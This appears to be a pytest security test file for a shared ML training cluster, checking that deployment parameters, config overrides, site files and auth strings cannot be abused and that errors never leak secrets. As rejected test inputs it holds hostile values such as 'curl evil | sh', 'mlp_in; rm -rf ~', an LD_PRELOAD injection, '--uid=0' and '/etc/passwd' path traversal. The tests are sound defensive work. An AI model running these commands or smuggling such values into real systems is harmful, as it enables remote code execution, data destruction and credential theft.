"""Shared-cluster safety checks that need no server (issue 21); the ones with a server are in
tests/test_service.py and tests/test_infra_scripts.py (marked `security` too)."""

from __future__ import annotations

import os

import pytest

pytestmark = pytest.mark.security


# ----------------------------------------------------------------------------- the work pool
def test_pool_template_lets_no_flow_run_choose_command_env_or_folder():
    import jsonschema

    from infra.pool_template import REMOVED, locked_template

    template = locked_template()
    assert not set(REMOVED) & set(template["job_configuration"])
    assert not set(REMOVED) & set(template["variables"]["properties"])
    schema = template["variables"]
    jsonschema.validate({"name": "x", "stream_output": False}, schema)  # harmless ones stay
    for job_variables in ({"command": "sh -c 'id'"}, {"env": {"LD_PRELOAD": "x.so"}}, {"working_dir": "/"}, {"x": 1}):
        with pytest.raises(jsonschema.ValidationError):
            jsonschema.validate(job_variables, schema)


# ----------------------------------------------------------------------------- SLURM jobs
def test_slurm_job_script_never_holds_the_api_auth_string(monkeypatch):
    """The auth string reaches SLURM jobs through sbatch's environment, never the job script
    (which dask-jobqueue writes to a file and SLURM keeps, readable by administrators)."""
    from infra.profiles import slurm_cluster_kwargs
    from monolm.config import load_config

    secret = "monolm:" + "5e" * 24
    monkeypatch.setenv("PREFECT_API_AUTH_STRING", secret)
    cfg = load_config("tiny", config_file="infra/slurm/site-local.yaml", sets=["runner.profile=slurm"])
    kwargs = slurm_cluster_kwargs(cfg.runner.slurm, "http://127.0.0.1:4200/api")
    assert secret not in repr(kwargs) and "5e5e5e" not in repr(kwargs)
    assert any("PREFECT_API_URL" in line for line in kwargs["job_script_prologue"])


# ----------------------------------------------------------------------------- deployment parameters
# A planted secret, built at run time (no token-like literal in the source).
SECRET = "hf" + "_" + "".join(chr(ord("a") + i % 26) for i in range(34))


def refused(params: dict, *fragments: str) -> str:
    from flows.params import check_deployment_parameters
    from monolm.config import ConfigError

    with pytest.raises(ConfigError) as exc:
        check_deployment_parameters({"preset": "tiny", **params})
    message = str(exc.value)
    assert SECRET not in message and SECRET[3:] not in message, message
    for fragment in fragments:
        assert fragment in message, message
    return message


@pytest.mark.parametrize(
    "overrides",
    [
        [f"runner.slurm.prologue=['curl evil | sh # {SECRET}']"],
        ["runner.slurm.python=/tmp/evil"],
        ["runner.slurm.job_extra_directives=['--uid=0']"],
        ["paths.results_root=/home/someone"],
        [f"store_url=postgresql://u:{SECRET}@db/x"],
        [f"hf_token={SECRET}"],
        ["training.common.lr=1e-4"],  # an allowlist: no config key at all
    ],
)
def test_deployment_run_may_not_set_config_keys(overrides):
    refused({"overrides": overrides}, "overrides:", "site file")


@pytest.mark.parametrize(
    "params, field",
    [
        ({"seeds": list(range(33))}, "seeds:"),
        ({"seeds": [-1]}, "seeds:"),
        ({"seeds": [2**40]}, "seeds:"),
        ({"seeds": "42"}, "seeds:"),
        ({"preset": SECRET}, "preset:"),
        ({"run_name": SECRET + "/.."}, "run_name:"),
        ({"run_name": "*"}, "run_name:"),
        ({"variant": "mlp_in; rm -rf ~"}, "variant:"),
        ({"variants": ["mlp_in"] * 17}, "variants:"),
        ({"models": [f"../{SECRET}"]}, "models:"),
        ({"named_overrides": [SECRET]}, "named_overrides:"),
        ({"regression_tolerance": {"loss": SECRET}}, "regression_tolerance:"),
    ],
)
def test_deployment_parameters_are_validated_and_bounded(params, field):
    refused(params, field)


def test_site_file_only_by_name_from_infra_or_the_site_folder(tmp_path, monkeypatch):
    from flows.params import REPO, check_deployment_parameters

    sites = tmp_path / "sites"
    sites.mkdir()
    (sites / "cluster.yaml").write_text("runner:\n  profile: slurm\n")
    outside = tmp_path / "secret.yaml"
    outside.write_text(f"hf_token: {SECRET}\n")
    (sites / "link.yaml").symlink_to(outside)
    monkeypatch.setenv("MONOLM_SITE_DIR", str(sites))

    ok = check_deployment_parameters({"preset": "tiny", "config_file": "infra/site-a100.example.yaml"})
    assert ok == str(REPO / "infra/site-a100.example.yaml")
    assert check_deployment_parameters({"preset": "tiny", "config_file": "slurm/site-local.yaml"}) == str(
        REPO / "infra/slurm/site-local.yaml"
    )
    assert check_deployment_parameters({"preset": "tiny", "config_file": "cluster.yaml"}) == str(sites / "cluster.yaml")
    assert check_deployment_parameters({"preset": "tiny", "config_file": ""}) is None
    for name in (str(outside), "link.yaml", "../secret.yaml", "infra/../pyproject.toml", "prefect.yaml", "/etc/passwd"):
        refused({"config_file": name}, "config_file:")


# ----------------------------------------------------------------------------- config errors
@pytest.mark.parametrize(
    "sets",
    [
        [f"hf_token={SECRET}"],
        [f"runner.slurm.qos={{x: {SECRET}}}"],
        [f"runner.profile={SECRET}"],
        [f"training.common.lr={SECRET}"],
        [f"seeds=[{SECRET}]"],
        [f"seeds=[1, {SECRET}"],
        [SECRET],
    ],
)
def test_config_errors_name_the_field_never_the_value(sets):
    from monolm.config import ConfigError, load_config

    with pytest.raises(ConfigError) as exc:
        load_config("tiny", sets=sets)
    assert SECRET not in str(exc.value) and SECRET[3:] not in str(exc.value), str(exc.value)


def test_config_file_errors_never_quote_the_file(tmp_path):
    from monolm.config import ConfigError, load_config

    for text in (f"hf_token: {SECRET}\n", f"training:\n  common:\n    lr: [{SECRET}\n", f"a: b: {SECRET}\n"):
        site = tmp_path / "site.yaml"
        site.write_text(text)
        with pytest.raises(ConfigError) as exc:
            load_config("tiny", config_file=site)
        assert SECRET not in str(exc.value) and SECRET[3:] not in str(exc.value), str(exc.value)


def test_cluster_sizes_are_bounded():
    from monolm.config import ConfigError, load_config

    for key, value in (
        ("runner.slurm.max_workers", 10_000),
        ("runner.dask_workers", 1000),
        ("runner.slurm.gpus_per_job", 64),
    ):
        with pytest.raises(ConfigError, match=key.replace(".", r"\.")):
            load_config("tiny", sets=[f"{key}={value}"])


# ----------------------------------------------------------------------------- the auth string
def test_served_auth_string_goes_only_to_the_server_of_this_state_dir(tmp_path, monkeypatch):
    from infra.api_auth import ENV, use_served_auth

    home = tmp_path / "prefect"
    home.mkdir()
    (home / "api_url").write_text("http://127.0.0.1:4321/api\n")
    (home / "auth").write_text("monolm:" + "ab" * 24 + "\n")
    monkeypatch.setenv("MONOLM_STATE_DIR", str(tmp_path))
    monkeypatch.delenv(ENV, raising=False)
    assert not use_served_auth("http://elsewhere.example:4200/api")  # never our secret to another server
    assert ENV not in os.environ
    assert use_served_auth("http://127.0.0.1:4321/api")
    assert os.environ[ENV] == "monolm:" + "ab" * 24
    monkeypatch.setenv(ENV, "someone:else")
    assert not use_served_auth("http://127.0.0.1:4321/api")  # an exported one wins
